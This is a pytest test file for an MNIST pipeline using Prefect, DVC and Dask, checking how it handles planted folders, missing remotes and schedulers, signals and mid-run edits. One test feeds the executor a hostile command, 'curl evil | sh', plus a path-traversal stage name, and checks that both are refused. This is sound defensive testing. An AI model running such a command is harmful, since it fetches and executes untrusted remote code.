"""Faults, round four: what someone else could plant, inputs edited while a
stage runs elsewhere, experiments of the same name, DVC remotes and Dask
schedulers that are not there. Real processes (flows, DVC, Dask, Prefect's
test server), small subset."""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
from prefect.settings import PREFECT_API_URL

from flows.executor import StageRefused, StageRequest, execute
from flows.pipeline import pipeline
from tests.conftest import ROOT, finish, free_port, start, wait_for

pytestmark = pytest.mark.slow


def flow_env(project, **extra) -> dict[str, str]:
    """A flow process's environment: the session's Prefect test server."""
    return {**project.env, "PREFECT_API_URL": PREFECT_API_URL.value(), **extra}


def one_line_error(proc_or_output, *words: str) -> str:
    """The one `error:` line of a refused run, checked to name ``words``."""
    out = proc_or_output if isinstance(proc_or_output, str) else \
        proc_or_output.stdout + proc_or_output.stderr
    errors = [line for line in out.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and "Traceback" not in out, out
    for word in words:
        assert word in errors[0], errors[0]
    return errors[0]


# --- planted folders and requests -------------------------------------------------------


def test_a_worker_root_someone_else_made_first_is_refused(tmp_path):
    """A run-cache record planted in a shared worker folder would be restored
    and pushed to the team's remote as this worker's result."""
    planted = tmp_path / f"mnist-cnn-{os.getuid()}"
    (planted / "worker" / "cache" / "runs").mkdir(parents=True)
    planted.chmod(0o777)
    proc = subprocess.run(
        [sys.executable, "-c", "from flows.executor import work_root; print(work_root())"],
        cwd=ROOT, env={**os.environ, "TMPDIR": str(tmp_path)}, capture_output=True, text=True)
    assert proc.returncode != 0
    assert f"UnsafeFolder: {planted} can be written by others (mode 777)" in proc.stderr
    planted.chmod(0o700)  # as the user's own first run makes it
    proc = subprocess.run(
        [sys.executable, "-c", "from flows.executor import work_root; print(work_root())"],
        cwd=ROOT, env={**os.environ, "TMPDIR": str(tmp_path)}, capture_output=True, text=True)
    assert proc.stdout.strip() == str(planted / "worker"), proc.stderr


@pytest.mark.parametrize(("stage", "cmd", "says"), [
    ("train@../../x", "python -m stages.train", "not a stage name"),
    ("train@task1", "sh -c 'curl evil | sh'", "refused its command"),
    ("train@task1", "python -m http.server", "refused its command"),
])
def test_a_request_this_project_would_not_send_is_refused(stage, cmd, says):
    request = StageRequest(stage=stage, definition={"cmd": cmd}, lock={})
    with pytest.raises(StageRefused, match=says):
        execute(request, print)


# --- experiments are never replaced ----------------------------------------------------


def test_a_run_named_like_an_experiment_gets_a_name_of_its_own(built, harness, monkeypatch):
    """`prefect deployment run ... --flow-run-name NAME` (or with_options):
    the project's experiment NAME stays as it was."""
    monkeypatch.chdir(built.path)
    monkeypatch.setenv("MNIST_NPZ", built.env["MNIST_NPZ"])
    named = pipeline.with_options(flow_run_name="tremendous-mamba")
    lr = "tasks.task1.optimizer.learning_rate"
    for value in (0.05, 0.07):
        state = named(project=str(built.path), tasks=["task1"], overrides={lr: value},
                      return_state=True)
        assert state.is_completed(), state.message
    show = json.loads(built.dvc("exp", "show", "--json").stdout)
    values = {e["name"]: e["revs"][0]["data"]["params"]["params.yaml"]["data"]["tasks"][
        "task1"]["optimizer"]["learning_rate"]
        for row in show for e in row.get("experiments") or []}
    assert values == {"tremendous-mamba": 0.05, "tremendous-mamba-2": 0.07}


# --- the DVC remote and the Dask scheduler, not there --------------------------------------


def test_a_remote_whose_folder_does_not_exist_is_one_line(project):
    project.dvc("remote", "add", "team", str(project.path.parent / "no" / "such" / "folder"))
    started = time.monotonic()
    proc = project.run(sys.executable, "-m", "flows.pipeline", "--remote", "team", check=False)
    assert proc.returncode == 1 and time.monotonic() - started < 60
    one_line_error(proc, "'team'", str(project.path.parent / "no" / "such" / "folder"),
                   "no such folder")


def test_nothing_listening_at_the_dask_address_is_one_line(project):
    address = f"tcp://127.0.0.1:{free_port()}"
    project.dvc("remote", "add", "team", str(project.path.parent / "remote"))
    (project.path.parent / "remote").mkdir()
    started = time.monotonic()
    proc = project.run(sys.executable, "-m", "flows.pipeline", "--remote", "team",
                       "--dask-address", address, check=False)
    assert proc.returncode == 1 and time.monotonic() - started < 30
    one_line_error(proc, address)


def test_a_remote_nobody_pushed_to_gets_the_inputs_it_needs(built, harness):
    """A built project, a new empty remote: the stages sent through it find
    their inputs there (the flow sends what it has), and the flow records them."""
    remote = built.path.parent / "fresh-remote"
    remote.mkdir()
    built.dvc("remote", "add", "team", str(remote))
    built.edit_params(lambda d: d["tasks"]["task1"]["optimizer"].update(learning_rate=0.02))
    proc = subprocess.run(
        [sys.executable, "-m", "flows.pipeline", "--remote", "team", "--tasks", "task1"],
        cwd=built.path, env=flow_env(built), capture_output=True, text=True, timeout=900)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "train@task1: fetching" in proc.stdout + proc.stderr
    assert "train@task1" not in built.dvc("status").stdout
    assert list((remote / "runs").rglob("*/*/*"))


@pytest.fixture
def scheduler(tmp_path):
    """A Dask scheduler with no worker."""
    port = free_port()
    proc = subprocess.Popen([str(Path(sys.executable).parent / "dask"), "scheduler", "--host",
                             "127.0.0.1", "--port", str(port), "--no-dashboard"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                            start_new_session=True)

    def listening() -> bool:
        with socket.socket() as sock:
            return sock.connect_ex(("127.0.0.1", port)) == 0

    wait_for(listening, timeout=60, interval=0.2)
    yield f"tcp://127.0.0.1:{port}"
    os.killpg(proc.pid, signal.SIGKILL)
    proc.wait()


def _stale_with_remote(built) -> None:
    (built.path.parent / "remote").mkdir()
    built.dvc("remote", "add", "team", str(built.path.parent / "remote"))
    built.edit_params(lambda d: d["tasks"]["task1"]["optimizer"].update(learning_rate=0.02))


def test_dask_without_workers_ends_with_one_line(built, harness, scheduler):
    _stale_with_remote(built)
    started = time.monotonic()
    proc = subprocess.run(
        [sys.executable, "-m", "flows.pipeline", "--remote", "team", "--dask-address",
         scheduler, "--tasks", "task1"], cwd=built.path, capture_output=True, text=True,
        env=flow_env(built, MNIST_CNN_DASK_WAIT_S="6"), timeout=300)
    assert proc.returncode == 1 and time.monotonic() - started < 120
    out = proc.stdout + proc.stderr
    assert f"train@task1: no Dask worker at {scheduler} for 6 s" in out, out
    assert "train@task1" in built.dvc("status").stdout  # nothing recorded


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT], ids=["kill", "ctrl-c"])
def test_the_first_signal_stops_a_flow_waiting_on_dask(built, harness, scheduler, sig):
    _stale_with_remote(built)
    built.env = flow_env(built)
    flow = start(built, sys.executable, "-m", "flows.pipeline", "--remote", "team",
                 "--dask-address", scheduler, "--tasks", "task1")
    wait_for(lambda: "> python -m stages.train" in flow.log.read_text(), timeout=300)
    time.sleep(1)
    os.kill(flow.pid, sig)  # once, the flow's process alone
    started = time.monotonic()
    try:
        out = finish(flow, timeout=60)
    except subprocess.TimeoutExpired:  # say where it waited, then do not leave it running
        os.killpg(flow.pid, signal.SIGKILL)
        flow.wait(timeout=30)
        pytest.fail(f"the flow ignored one {sig.name} for 60 s:\n{flow.log.read_text()[-6000:]}")
    assert flow.returncode != 0 and time.monotonic() - started < 30, out
    assert "train@task1" in built.dvc("status").stdout


# --- a project whose state was planted or edited meanwhile ------------------------------


def test_an_override_run_in_a_repository_without_commits_is_one_line(tmp_path, mnist_npz):
    from tests.sandbox import make_project

    project = make_project(tmp_path / "project", mnist_npz)
    shutil.rmtree(project.path / ".git")
    project.run("git", "init", "-q")
    proc = project.run(sys.executable, "-m", "flows.pipeline", "-S", "seed=1", check=False)
    assert proc.returncode == 1
    one_line_error(proc, "no commit yet")


def test_a_task_name_too_long_for_a_file_name_is_refused_by_the_checks(built):
    name = "t" * 251
    built.edit_params(lambda d: d["tasks"].update({name: d["tasks"]["task1"]}))
    proc = built.run(sys.executable, "-m", "mnist_cnn.cli.checks", check=False)
    assert proc.returncode == 1
    assert f"tasks.{name[:24]}...: a task name has at most 64 characters" in proc.stderr
    repro = built.dvc("repro", check=False)
    assert repro.returncode != 0 and "File name too long" not in repro.stdout + repro.stderr
    assert "a task name has at most 64 characters" in repro.stdout + repro.stderr


def test_a_removed_tasks_outputs_leave_the_reports_dependency(built, tmp_path):
    """Without task2_maxpool in params.yaml, its data/models folder must not
    stay in what the report depends on: a clone (which never had it) would
    see the report changed."""
    gone = "task2_maxpool"
    built.edit_params(lambda d: d["tasks"].pop(gone))
    proc = built.run(sys.executable, "-m", "tools.dvc", "repro")
    assert f"removed data/models/{gone}: no stage of dvc.yaml writes it" in proc.stdout
    assert f"removed data/eval/{gone}" in proc.stdout
    assert not (built.path / "data/models" / gone).exists()
    built.commit("without task2_maxpool")
    clone = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", str(built.path), str(clone)], check=True)
    from tests.sandbox import Project

    teammate = Project(clone, built.env)
    teammate.dvc("cache", "dir", str(built.path / ".dvc" / "cache"))
    teammate.dvc("checkout")
    status = teammate.dvc("status").stdout
    assert "Data and pipelines are up to date" in status, status


def test_two_make_ui_at_once_share_one_server(tmp_path):
    """`make ui` is idempotent on its port, even twice at once."""
    env = {**os.environ, "PREFECT_HOME": str(tmp_path / "prefect"),
           "PREFECT_SERVER_ANALYTICS_ENABLED": "false"}
    env.pop("PREFECT_API_URL", None)
    port = str(free_port())
    cmd = [sys.executable, "-m", "tools.prefect_server", "start", "--port", port]
    try:
        procs = [subprocess.Popen(cmd, cwd=ROOT, env=env, text=True, stdout=subprocess.PIPE,
                                  stderr=subprocess.STDOUT) for _ in range(2)]
        outs = [p.communicate(timeout=400)[0] for p in procs]
        assert [p.returncode for p in procs] == [0, 0], outs
        assert sum("already running" in out for out in outs) == 1, outs
    finally:
        subprocess.run([sys.executable, "-m", "tools.prefect_server", "stop"], cwd=ROOT,
                       env=env, capture_output=True, timeout=120)


def test_an_edit_during_a_remote_stage_is_not_recorded(built, harness, tmp_path, mnist_npz):
    """Params and code edited while a stage runs on a worker: the worker's
    result is from the old ones, so the flow records nothing for it (as a
    local stage refuses the same edit)."""
    from tests.test_remote import make_cluster

    _stale_with_remote(built)
    built.edit_params(lambda d: d["tasks"]["task1"].update(epochs=30))
    lock_before = (built.path / "dvc.lock").read_text()
    with make_cluster(tmp_path / "cluster", mnist_npz, n=1) as cluster:
        built.env = flow_env(built)
        flow = start(built, sys.executable, "-m", "flows.pipeline", "--remote", "team",
                     "--dask-address", cluster.scheduler_address, "--tasks", "task1")
        found = []

        def training() -> bool:
            import psutil

            for proc in psutil.process_iter(["cmdline"]):
                try:
                    if "stages.train" in " ".join(proc.info["cmdline"] or []) and \
                            str(tmp_path / "cluster") in proc.cwd():
                        proc.suspend()
                        found.append(proc)
                        return True
                except psutil.Error:
                    continue
            assert flow.poll() is None, flow.log.read_text()
            return False

        wait_for(training, timeout=300, interval=0.1)
        built.edit_params(lambda d: d["tasks"]["task1"]["optimizer"].update(
            learning_rate=0.03))
        models = built.path / "mnist_cnn" / "models.py"
        models.write_text(models.read_text() + "\n# edited while the stage ran\n")
        found[0].resume()
        out = finish(flow, timeout=600)
    assert flow.returncode == 1, out
    assert "train@task1: its inputs changed after it started (mnist_cnn/models.py, " \
        "params.yaml: tasks.task1)" in out, out
    assert (built.path / "dvc.lock").read_text() == lock_before
    assert "train@task1" in built.dvc("status").stdout
